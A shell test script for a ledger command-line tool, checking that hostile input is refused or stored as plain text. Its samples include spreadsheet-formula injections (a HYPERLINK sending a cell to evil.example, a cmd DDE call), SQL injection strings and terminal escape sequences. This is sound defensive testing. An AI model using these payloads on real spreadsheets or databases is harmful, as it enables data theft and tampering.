# Hostile command arguments and environment variables (docs/HOSTILE-INPUT.md):
# 100 KB strings, bytes that are not UTF-8, control characters, SQL, dates
# and amounts at their edges, flags repeated past their limits.  Each is
# refused with its exit status and one error line, and the ledger is left
# exactly as it was; text that is merely odd is stored as the text it is.

# BASE is the ledger's digest after the last change this test made on
# purpose (made), so that each refusal costs one digest, not two.
made() {
	ok_run "$@"
	BASE=$(snapshot)
}

# env_mcg NAME VALUE ARGS...: mcg ARGS with the environment variable NAME
# set to VALUE for that run only (an assignment before a shell function is
# not portable); sets RC, OUT and ERR like mcg().
env_mcg() {
	name=$1
	value=$2
	shift 2
	capture env "$name=$value" "$MCG" "$@"
}

# refused CODE ARGS...: exit CODE, one "mcg: error:" line, nothing changed.
refused() {
	expect_rc "$@"
	shift
	expect_eq "$(snapshot)" "$BASE" "the ledger is unchanged after: $(printf '%.60s' "$*")"
	expect_eq "$(printf '%s\n' "$ERR" | wc -l)" 1 "one error line for: $(printf '%.60s' "$*")"
	expect_contains "$ERR" "mcg: error: " "error prefix for: $(printf '%.60s' "$*")"
}

setup_consortium
BASE=$(snapshot)
D="--date 2026-02-01"
big=$(head -c 100000 /dev/zero | tr '\0' a)
esc=$(printf 'x\033[2J\033]0;owned\007y')
nl=$(printf 'x\nmcg: error: forged')
latin1=$(printf 'caf\351')
overlong=$(printf '\300\257')
surrogate=$(printf '\355\240\200')

# ---- 100 KB strings, everywhere a string goes ------------------------------
refused 2 contribute "$big" 1 --kind fund $D
refused 2 contribute A "$big" --kind fund $D
refused 2 contribute A 1 --kind "$big" $D
refused 2 contribute A 1 --kind fund --ref "$big" $D
refused 2 contribute A 1 --kind fund --date "$big"
refused 2 member add X --name "$big" $D
refused 2 "$big"
refused 2 --actor "$big" contribute A 1 --kind fund $D
refused 2 --db "$big" balance
refused 2 guarantees --format "$big"
expect_contains "$ERR" "unknown format" "a long value is quoted short"
[ "${#ERR}" -lt 400 ] && ok || fail "a 100 KB argument made a ${#ERR}-byte error"
env_mcg MCG_ACTOR "$big" contribute A 1 --kind fund $D
expect_eq "$RC" 2 "MCG_ACTOR of 100 KB"
env_mcg MCG_DB "$big" balance
expect_eq "$RC" 2 "MCG_DB of 100 KB"
env_mcg MCG_KEYS "$big" audit checkpoint
case "$RC" in 1|2) ok ;; *) fail "MCG_KEYS of 100 KB: exit $RC" ;; esac
expect_eq "$(snapshot)" "$BASE" "long environment changed nothing"
# A name at its limit (200 bytes) is taken, one byte more is not.
made member add N200 --name "$(head -c 200 /dev/zero | tr '\0' n)" $D
refused 2 member add N201 --name "$(head -c 201 /dev/zero | tr '\0' n)" $D

# ---- bytes that are not UTF-8, control characters ---------------------------
for bad in "$latin1" "$surrogate" "$esc" "$nl"; do
	refused 2 member add X --name "$bad" $D
	refused 2 bank add BANKDEFF --name "$bad" $D
	refused 2 member add X --name N --district "$bad" $D
	refused 2 member add "$bad" --name N $D
	refused 2 contribute A 1 --kind fund --ref "$bad" $D
done
# C1 controls (U+0085 NEL, U+009B CSI) are control characters too.
for bad in "$overlong" "$(printf 'del\177')" "$(printf 'Pr\302\205ato')" "$(printf 'csi\302\2332J')"; do
	refused 2 member add X --name "$bad" $D
	refused 2 member add X --name N --district "$bad" $D
done
mcg member add X --name N --district "$(printf 'Pr\302\205ato')" $D
expect_contains "$ERR" "district has a control character at byte 3" "a C1 control is named, with its byte"
# U+00A0, the first character after them, is text.
made member add NBSP --name "$(printf 'No\302\240Break')" --district "$(printf 'Pr\302\240ato')" $D

# ---- characters XML forbids, and those that pass one name off as another ----
# U+FFFE and U+FFFF: XML forbids them, so every signed document carrying
# the name would fail for ever (events are never changed).  The
# bidirectional controls reorder what follows them; the invisible
# characters make two names that look alike differ.  Each is refused in
# every free-text field (the consortium, member and bank names, district,
# tax id, actor), naming the field, the byte and the code point.
for spec in 'FFFE \357\277\276 xml' 'FFFF \357\277\277 xml' \
	'202A \342\200\252 bidi' '202B \342\200\253 bidi' '202C \342\200\254 bidi' \
	'202D \342\200\255 bidi' '202E \342\200\256 bidi' '2066 \342\201\246 bidi' \
	'2067 \342\201\247 bidi' '2068 \342\201\250 bidi' '2069 \342\201\251 bidi' \
	'200B \342\200\213 invisible' '2060 \342\201\240 invisible' 'FEFF \357\273\277 invisible'; do
	code=${spec%% *}
	rest=${spec#* }
	kind=${rest#* }
	case $kind in
	xml) what="a character XML does not allow at byte 3 (U+$code)" ;;
	bidi) what="a bidirectional control at byte 3 (U+$code), which can make one name display as another" ;;
	*) what="an invisible character at byte 3 (U+$code), which can make one name display as another" ;;
	esac
	# shellcheck disable=SC2059
	text=$(printf "Ac${rest%% *}me")
	refused 2 member add X --name "$text" $D
	expect_contains "$ERR" "member name has $what" "U+$code in a member name"
	refused 2 member add X --name N --district "$text" $D
	expect_contains "$ERR" "district has $what" "U+$code in a district"
	refused 2 member add X --name N --tax-id "$text" $D
	expect_contains "$ERR" "tax id has $what" "U+$code in a tax id"
	refused 2 bank add BANKDEFF --name "$text" $D
	expect_contains "$ERR" "bank name has $what" "U+$code in a bank name"
	refused 2 --actor "$text" contribute A 1 --kind fund $D
	expect_contains "$ERR" "actor has $what" "U+$code in an actor"
	expect_rc 2 --db "init-$code.db" init --name "$text" --date 2026-01-01
	expect_contains "$ERR" "the consortium name has $what" "U+$code in the consortium name"
	expect_eq "$(ls -d init-"$code".db* 2>/dev/null)" "" "init with U+$code leaves no file"
done
# A name of only spaces (U+0020, or U+00A0 and the like) is blank.
for blank in " " "   " "$(printf ' \302\240 ')"; do
	refused 2 member add X --name "$blank" $D
	expect_contains "$ERR" "member name is blank: it has only spaces" "a blank member name"
	refused 2 member add X --name N --district "$blank" $D
	expect_contains "$ERR" "district is blank" "a blank district"
	refused 2 member add X --name N --tax-id "$blank" $D
	expect_contains "$ERR" "tax id is blank" "a blank tax id"
	refused 2 bank add BANKDEFF --name "$blank" $D
	expect_contains "$ERR" "bank name is blank" "a blank bank name"
	refused 2 --actor "$blank" contribute A 1 --kind fund $D
	expect_contains "$ERR" "actor is blank" "a blank actor"
	expect_rc 2 --db init-blank.db init --name "$blank" --date 2026-01-01
	expect_contains "$ERR" "the consortium name is blank" "a blank consortium name"
	expect_eq "$(ls -d init-blank.db* 2>/dev/null)" "" "init with a blank name leaves no file"
done
# An actor that is not UTF-8 is refused like a name that is not.
refused 2 --actor "$latin1" contribute A 1 --kind fund $D
expect_contains "$ERR" "actor is not valid UTF-8 (byte 4)" "a Latin-1 actor"
# The zero width non-joiner and joiner are text: Persian and the Indic
# scripts need them, and emoji sequences (woman + ZWJ + laptop); so is
# a name with spaces around it.
zwj=$(printf '\360\237\221\251\342\200\215\360\237\222\273')
zwnj=$(printf '\331\205\333\214\342\200\214\330\256\331\210\330\247\331\207\331\205')
made member add ZWJ --name "Studio $zwj" --district "$zwnj" $D
made --actor "$zwnj" bank add BANKDEFF --name " Banca $zwj " $D
expect_eq "$(sqlite3 "$MCG_DB" "SELECT name || '|' || district FROM members WHERE id = 'ZWJ'")" \
	"Studio $zwj|$zwnj" "joiners stored as given"
expect_eq "$(sqlite3 "$MCG_DB" "SELECT name FROM banks WHERE bic = 'BANKDEFF'")" " Banca $zwj " "spaces around a name kept"
# Text that a spreadsheet takes for a formula (CSV injection): member list
# --format csv writes names and districts as they are, so such text is
# refused where it comes in; the same characters inside a name are text.
for lead in '=' '+' '-' '@'; do
	refused 2 member add X --name "${lead}HYPERLINK(\"http://evil.example/?\"&A1)" $D
	expect_contains "$ERR" "member name begins with '$lead': a spreadsheet opening mcg's CSV would take it for a formula" \
		"a member name beginning with $lead"
	refused 2 member add X --name N --district "${lead}SUM(1+1)" $D
	expect_contains "$ERR" "district begins with '$lead'" "a district beginning with $lead"
	refused 2 member add X --name N --tax-id "${lead}1" $D
	expect_contains "$ERR" "tax id begins with '$lead'" "a tax id beginning with $lead"
	refused 2 bank add BANKDEFG --name "${lead}cmd|' /C calc'!A0" $D
	expect_contains "$ERR" "bank name begins with '$lead'" "a bank name beginning with $lead"
	expect_rc 2 --db init-formula.db init --name "${lead}1+2" --date 2026-01-01
	expect_contains "$ERR" "the consortium name begins with '$lead'" "a consortium name beginning with $lead"
	expect_eq "$(ls -d init-formula.db* 2>/dev/null)" "" "init with a formula name leaves no file"
done
made member add FORMULA --name "Ditta A=B+C -srl @home" --district "Prato" $D
mcg member list --format csv
expect_contains "$OUT" "FORMULA,Ditta A=B+C -srl @home,active" "the same characters inside a name are text"
for bad in "$latin1" "$nl"; do
	refused 2 contribute "$bad" 1 --kind fund $D
	refused 2 contribute A "$bad" --kind fund $D
	refused 2 loan add L9 --borrower A --bank "$bad" --principal 100 $D
done
# The error line never carries the control bytes it quotes.
mcg contribute "$nl" 1 --kind fund $D
expect_eq "$(printf '%s\n' "$ERR" | wc -l)" 1 "a newline in an id does not split the error"
mcg exposure "$esc"
case "$ERR" in *"$(printf '\033')"*) fail "an escape sequence reached the terminal: $ERR" ;; *) ok ;; esac
# A space is printable ASCII (CLI.md: a ref is 1 to 64 of them): a bank's
# refs such as "BPM 2026 001" are refs, leading and trailing spaces
# included, kept byte for byte, never trimmed.  A tab is not printable.
refused 2 contribute A 1 --kind fund --ref "$(printf 'tab	ref')" $D
expect_contains "$ERR" "bad ref: character 4 is not printable ASCII" "a tab in a ref is not printable"
for ref in "BPM 2026 001" "  lead" "trail  " " " " $(head -c 62 /dev/zero | tr '\0' x) "; do
	made contribute A 1.00 --kind fund --ref "$ref" $D
	expect_eq "$(sqlite3 "$MCG_DB" "SELECT COUNT(*) FROM events WHERE ref = '$ref'")" 1 "ref [$ref] stored as given"
	# The same again: a replay, nothing written; other content: a conflict.
	expect_unchanged 0 contribute A 1.00 --kind fund --ref "$ref" $D
	expect_contains "$OUT" "already recorded as event" "ref [$ref] again is a replay"
	expect_contains "$OUT" "(ref '$ref')" "the replayed ref is quoted, its spaces seen"
	expect_unchanged 5 contribute A 2.00 --kind fund --ref "$ref" $D
	expect_contains "$ERR" "ref '$ref' was already used by event" "ref [$ref] with other content"
done
# Spaces are part of the ref: with one more or one less it is another.
made contribute A 1.00 --kind fund --ref "BPM 2026 001 " $D
made contribute A 1.00 --kind fund --ref "trail" $D
made contribute A 1.00 --kind fund --ref "lead" $D
expect_eq "$(sqlite3 "$MCG_DB" "SELECT COUNT(*) FROM events WHERE ref LIKE '%BPM 2026 001%'")" 2 "'BPM 2026 001' and 'BPM 2026 001 ' are two refs"
refused 2 contribute A 1 --kind fund --ref " $(head -c 63 /dev/zero | tr '\0' x) " $D
expect_contains "$ERR" "bad ref: must be 1 to 64 characters (got 65)" "spaces count in a ref's length"
# UTF-8 names are fine and come back as they went in.
made member add U --name "Ceramiche Ünïcödé – 陶瓷" $D
mcg member list --format csv
expect_contains "$OUT" "U,Ceramiche Ünïcödé – 陶瓷," "UTF-8 name stored as given"

# ---- SQL in ids, names and refs ---------------------------------------------
refused 2 member add "X';DROP TABLE members;--" --name N $D
refused 2 loan add "L1;DROP TABLE loans" --borrower A --bank BANKITMM --principal 1 $D
refused 2 bank add "BANKITMM' OR '1'='1" --name X $D
refused 2 contribute "A' OR '1'='1" 1 --kind fund $D
refused 2 exposure "A' OR '1'='1"
refused 2 scores "L1' UNION SELECT * FROM events--"
# In a name or a ref (any printable ASCII) SQL is plain text.
made member add SQ --name "Robert'); DROP TABLE members;--" $D
made contribute A 1.00 --kind fund --ref "x';DELETE/**/FROM/**/events;--" $D
expect_eq "$(sqlite3 "$MCG_DB" "SELECT name FROM members WHERE id = 'SQ'")" "Robert'); DROP TABLE members;--" "SQL in a name is text"
expect_eq "$(sqlite3 "$MCG_DB" "SELECT COUNT(*) FROM events WHERE ref = 'x'';DELETE/**/FROM/**/events;--'")" 1 "SQL in a ref is text"
expect_eq "$(sqlite3 "$MCG_DB" "SELECT COUNT(*) = MAX(seq) FROM events")" 1 "no event lost"

# ---- dates ----------------------------------------------------------------------
for d in 0000-01-01 10000-01-01 2026-02-29 2026-13-01 2026-01-32 2026-1-1 \
	 "2026-02-01 " 2026-02-01T00:00 20260201 "" "$(printf '2026-02-01\nx')"; do
	refused 2 contribute A 1 --kind fund --date "$d"
done
# Back-dating is refused; 1970 and 0001 are dates, but before the ledger's.
refused 2 contribute A 1 --kind fund --date 1970-01-01
refused 2 contribute A 1 --kind fund --date 0001-01-01
# A leap day is a date (a ledger of its own: none follows 2026-02-01 within
# a year of this writing).
expect_rc 0 --db leap.db --keys leap.keys init --name Leap --date 2024-02-29
expect_contains "$(sqlite3 leap.db "SELECT date FROM events WHERE seq = 1")" \
	"$(( $(date -u -d 2024-02-29 +%s) / 86400 ))" "the leap day recorded"
# The far future is a valid date, refused as a new event's: a typo of 9999
# for 2026 would hold every later event at that date (no back-dating).  A
# year and a day after today (UTC) is the limit (MCG_DATE_AHEAD_MAX_DAYS).
refused 2 contribute A 1 --kind fund --date 9999-12-31
expect_contains "$ERR" "date 9999-12-31 is more than 366 days after today, $(date -u +%F) (UTC)" \
	"the far date named, and today"
refused 2 contribute A 1 --kind fund --date "$(date -u -d '+367 days' +%F)"
# In an import too, at the row's line; one row too far refuses the file.
printf 'ref,date,type,loan,principal,interest,dpd,amount\nfar-1,%s,arrears,L1,,,30,\n' \
	"$(date -u -d '+400 days' +%F)" > far.csv
refused 2 import far.csv
expect_contains "$ERR" "far.csv:2: date $(date -u -d '+400 days' +%F) is more than 366 days" \
	"the far row named"
# The limit itself is accepted (on a copy: the rest of this file records
# earlier dates).
cp "$MCG_DB" far.db
expect_rc 0 --db far.db --keys "$MCG_DB.keys" contribute A 1 --kind fund --date "$(date -u -d '+366 days' +%F)"
expect_rc 0 --db far.db --keys "$MCG_DB.keys" check
expect_rc 0 --db far.db --keys "$MCG_DB.keys" audit verify
D="--date 2026-03-01"

# ---- amounts at the edges of int64 --------------------------------------------
for a in 92233720368547758.08 -92233720368547758.08 -1 0 0.001 1e3 0x10 +1 \
	 "1 " "1," .5 "１" "$(printf '1\n2')" NaN; do
	refused 2 contribute A "$a" --kind fund $D
done
# The largest amount is read exactly; the balance it would make overflows,
# which is refused (never wrapped).
refused 2 contribute A 92233720368547758.07 --kind fund $D
expect_contains "$ERR" "overflow" "overflow named"
refused 2 loan add L9 --borrower A --bank BANKITMM --principal 92233720368547758.08 $D
made loan add L9 --borrower A --bank BANKITMM --principal 92233720368547758.07 $D
refused 2 repay L9 --principal 92233720368547758.07 $D
refused 2 guarantee L9 --coverage 100.01 $D
refused 2 guarantee L9 --coverage -1 $D
refused 2 guarantee L9 --coverage 50 --cap 92233720368547758.08 $D
refused 2 arrears L9 --dpd 99999999999999999999 $D
refused 2 arrears L9 --dpd -1 $D
refused 2 assess L9 --assessor B --score 11 $D
refused 2 assess L9 --assessor B --score 0 $D
refused 2 loan add L8 --borrower A --bank BANKITMM --principal 1 --term-months 9999999999 $D
refused 2 loan add L8 --borrower A --bank BANKITMM --principal 1 --rate 1e2 $D

# ---- flags ------------------------------------------------------------------------
pledges=""
i=0
while [ $i -lt 70 ]; do pledges="$pledges --pledge B:1"; i=$((i + 1)); done
# shellcheck disable=SC2086
refused 2 guarantee L9 --coverage 50 $pledges $D
refused 2 contribute A 1 --kind fund --kind capital $D
refused 2 contribute A 1 --kind fund --ref a --ref b $D
refused 2 contribute A 1 --kind fund --bogus $D
refused 2 contribute A 1 --kind fund -x $D
refused 2 contribute A 1 2 3 4 5 6 7 8 9 --kind fund $D
refused 2 contribute -- A 1 --kind fund $D
refused 2 --db
refused 2 --db "" balance
refused 2 --actor "" contribute A 1 --kind fund $D
refused 2 --keys "" audit checkpoint
refused 2 audit prove 99999999999999999999
# The range the message offers is the range taken: 19 digits up to
# INT64_MAX are a number (here past the log's end), one more is not.
refused 2 audit prove 9223372036854775807
expect_contains "$ERR" "event 9223372036854775807 is not in the tree" "INT64_MAX is read as a number"
refused 2 audit prove 1000000000000000000
expect_contains "$ERR" "event 1000000000000000000 is not in the tree" "19 digits are read as a number"
refused 2 audit prove 9223372036854775808
expect_contains "$ERR" "bad value '9223372036854775808': expected a whole number from 0 to 9223372036854775807" \
	"one past INT64_MAX is refused as the message says"
refused 2 audit prove -1
refused 2 audit consistency 5 2

# ---- -o FILE: what a document must not replace -------------------------------------
# A document is renamed over FILE, so an existing FIFO, device or folder
# would be replaced, not written into (as root, /dev/null itself): refused,
# exit 2, like the ledger's own files (t_xml_statement.sh).  The device is,
# as root, a null device of the test's own (mknod), so that a regression
# can never replace the machine's /dev/null (an mcg without the check did,
# the first time this ran); for anyone else /dev/null, whose folder they
# may not write anyway.
S="statement BANKITMM --from 2026-01-01 --to 2026-12-31"
mkfifo fifo.xml
# shellcheck disable=SC2086
expect_output_refused "-o fifo.xml is a FIFO (named pipe), which the document would replace" fifo.xml $S
dev=
if [ "$(id -u)" != 0 ]; then
	dev=/dev/null
elif mknod -m 0666 null.dev c 1 3 2>/dev/null; then
	dev=null.dev
else
	echo "    note [$T_NAME]: cannot mknod as root: -o DEVICE not tried" >&2
fi
if [ -n "$dev" ]; then
	# shellcheck disable=SC2086
	expect_output_refused "-o $dev is a device, which the document would replace" "$dev" $S
	ln -s "$dev" null.xml
	# shellcheck disable=SC2086
	expect_output_refused "-o null.xml is a device" null.xml $S
	expect_output_refused "-o $dev is a device" "$dev" report regulatory --from 2026-01-01 --to 2026-12-31
	if [ -c "$dev" ]; then ok; else fail "$dev was replaced"; fi
	rm -f null.xml null.dev
fi
if [ -p fifo.xml ]; then ok; else fail "the FIFO was replaced"; fi
rm fifo.xml
# The keys folder guarded is the one in use: --keys DIR or MCG_KEYS, by any
# spelling; and the default one beside the ledger still, which may hold the
# private keys when --keys names a copy of the public ones.
cp -R "$MCG_DB.keys" k2
before=$(ledger_state "$MCG_DB" k2)
# shellcheck disable=SC2086
expect_rc 2 --keys k2 $S -o k2/s.xml
expect_contains "$ERR" "-o k2/s.xml is inside the keys folder k2" "--keys DIR guarded"
# shellcheck disable=SC2086
env_mcg MCG_KEYS "$PWD/k2" $S -o ./k2/statement.key
expect_eq "$RC" 2 "MCG_KEYS guarded"
expect_contains "$ERR" "-o ./k2/statement.key is inside the keys folder $PWD/k2" "MCG_KEYS guarded"
# shellcheck disable=SC2086
expect_rc 2 --keys k2 $S -o mcg.db.keys/s.xml
expect_contains "$ERR" "-o mcg.db.keys/s.xml is inside the keys folder $MCG_DB.keys" "the default keys folder guarded"
expect_eq "$(ledger_state "$MCG_DB" k2)" "$before" "--keys and MCG_KEYS: the ledger and its keys unchanged"
expect_eq "$(ls mcg.db.keys/s.xml* 2>/dev/null)" "" "nothing in the default keys folder"
# shellcheck disable=SC2086
expect_rc 0 --keys k2 $S -o "$MCG_DB.keys/../s.xml"
BASE=$(snapshot)
rm -r k2 s.xml

# ---- MCG_ACTOR ------------------------------------------------------------------
for actor in "$(printf 'treasurer\nmcg: error: forged')" "$(printf 'a\tb')" "$esc" \
	     "$(head -c 65 /dev/zero | tr '\0' a)"; do
	env_mcg MCG_ACTOR "$actor" contribute A 1 --kind fund $D
	expect_eq "$RC" 2 "MCG_ACTOR with control bytes or too long"
	expect_eq "$(printf '%s\n' "$ERR" | wc -l)" 1 "MCG_ACTOR refusal is one line"
	expect_eq "$(snapshot)" "$BASE" "MCG_ACTOR refusal changed nothing"
done
# An empty MCG_ACTOR falls back to the login name.
env_mcg MCG_ACTOR "" contribute A 1.00 --kind fund --ref empty-actor $D
expect_eq "$RC" 0 "empty MCG_ACTOR"
expect_eq "$(sqlite3 "$MCG_DB" "SELECT actor <> '' FROM events WHERE ref = 'empty-actor'")" 1 "an actor is recorded"
# A UTF-8 actor is recorded as given.
env_mcg MCG_ACTOR "Zoë Tesoriera" contribute A 1.00 --kind fund --ref utf8-actor $D
expect_eq "$(sqlite3 "$MCG_DB" "SELECT actor FROM events WHERE ref = 'utf8-actor'")" "Zoë Tesoriera" "UTF-8 actor"

expect_rc 0 check
expect_rc 0 audit verify
